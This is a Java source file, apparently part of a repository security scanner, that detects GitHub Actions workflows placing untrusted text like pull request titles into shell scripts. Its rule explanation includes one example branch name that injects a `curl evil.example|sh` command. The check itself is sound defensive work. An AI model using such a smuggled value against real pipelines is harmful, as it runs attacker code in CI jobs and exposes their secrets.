package dev.gatehouse.practices.repositoryaccess.workflows;

import dev.gatehouse.model.FactKind;
import dev.gatehouse.model.Location;
import dev.gatehouse.model.judgement.Practice;
import dev.gatehouse.model.judgement.Rule;
import dev.gatehouse.model.judgement.Severity;
import dev.gatehouse.model.judgement.Standing;
import dev.gatehouse.model.judgement.Verdict;
import dev.gatehouse.model.pipeline.Workflow;
import dev.gatehouse.model.tree.Mapping;
import dev.gatehouse.model.tree.Scalar;
import dev.gatehouse.practices.check.Check;
import dev.gatehouse.practices.check.Evidence;
import dev.gatehouse.practices.check.Ruling;
import dev.gatehouse.practices.repositoryaccess.expressions.Interpolation;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

/**
 * A title, branch name or the like becomes part of a program before the program is read.
 *
 * <p>A composite action that puts its inputs into a program is for its callers to answer; what they pass isn't
 * followed, so it is UNKNOWN.
 */
final class WorkflowScriptInjection implements Check {

    private static final Rule RULE = Rule.of(Practice.REPOSITORY_ACCESS, "workflow-script-injection")
            .severity(Severity.HIGH, Severity.HIGH, Severity.LOW)
            .title("A workflow puts text that strangers write into a script")
            .why("""
                    GitHub replaces the expression before the shell reads the line: a branch called
                    `x";curl evil.example|sh;"` is a command that runs in the job.""")
            .fix("Hand the text over in a variable, which the shell never reads as code:")
            .example("""
                    - run: echo "$TITLE"
                      env:
                        TITLE: ${{ github.event.pull_request.title }}
                    """)
            .needs(FactKind.PIPELINE)
            .evidences("pci-dss:7.2.5", "pci-dss:7.3.1", "hipaa:164.312(a)(1)", "gdpr:32.1.b")
            .written();

    @Override
    public Rule rule() {
        return RULE;
    }

    @Override
    public void judge(Evidence evidence, Ruling ruling) {
        for (GitHubWorkflow workflow : GitHubWorkflow.all(evidence)) {
            boolean clean = true;
            for (Job job : workflow.jobs()) {
                for (Mapping step : job.steps()) {
                    String subject = workflow.subject(job) + " step " + Job.nameOf(step);
                    clean &= judge(workflow.file(), job, step, subject, workflow.standing(), ruling);
                }
            }
            if (clean && !workflow.jobs().isEmpty()) {
                Scalar place = workflow.jobs().getFirst().key();
                pass(workflow.subject(), workflow.file().at(place), workflow.standing(), ruling);
            }
        }
        for (Workflow action : evidence.facts(Workflow.class)) {
            if (action.type() == Workflow.Type.GITHUB_ACTION) {
                judge(action, GitHubWorkflow.standing(action.file(), evidence), ruling);
            }
        }
    }

    private static void judge(Workflow action, Standing standing, Ruling ruling) {
        List<Mapping> steps = action.body().each("runs", "steps");
        if (steps.isEmpty()) {
            return;
        }
        String subject = "action " + action.file();
        Mapping runs = action.body().mapping("runs").orElse(action.body());
        Job job = new Job(
                "runs",
                new Scalar("runs", Scalar.Type.TEXT, runs.line(), runs.column(), runs.line()),
                runs,
                action.body());
        boolean clean = true;
        for (Mapping step : steps) {
            clean &= judge(action, job, step, subject + " step " + Job.nameOf(step), standing, ruling);
        }
        for (Mapping step : steps) {
            for (Script script : Script.of(step)) {
                for (Interpolation interpolation :
                        Interpolation.in(script.text().text())) {
                    Set<String> flows = Checkout.resolved(
                            job, step, interpolation.expression().flows());
                    if (clean && flows.stream().anyMatch(path -> path.startsWith("inputs."))) {
                        clean = false;
                        Location place = script.at(action.file(), interpolation.offset());
                        ruling.add(
                                Verdict.UNKNOWN,
                                subject,
                                place,
                                null,
                                standing,
                                "it puts its inputs into a script; what its callers pass is not followed");
                    }
                }
            }
        }
        if (clean) {
            pass(subject, action.at(runs), standing, ruling);
        }
    }

    /** Whether nothing was found. */
    private static boolean judge(
            Workflow file, Job job, Mapping step, String subject, Standing standing, Ruling ruling) {
        Set<String> told = new HashSet<>();
        for (Script script : Script.of(step)) {
            for (Interpolation interpolation : Interpolation.in(script.text().text())) {
                for (String path :
                        Checkout.resolved(job, step, interpolation.expression().flows())) {
                    if (UntrustedInput.writtenByStrangers(path) && told.add(path)) {
                        Location place = script.at(file.file(), interpolation.offset());
                        ruling.add(
                                Verdict.FAIL,
                                subject,
                                place,
                                null,
                                standing,
                                "whoever writes `" + path + "` writes commands into the script");
                    }
                }
            }
        }
        return told.isEmpty();
    }

    private static void pass(String subject, Location place, Standing standing, Ruling ruling) {
        ruling.add(Verdict.PASS, subject, place, null, standing, "no text of strangers in its scripts");
    }
}
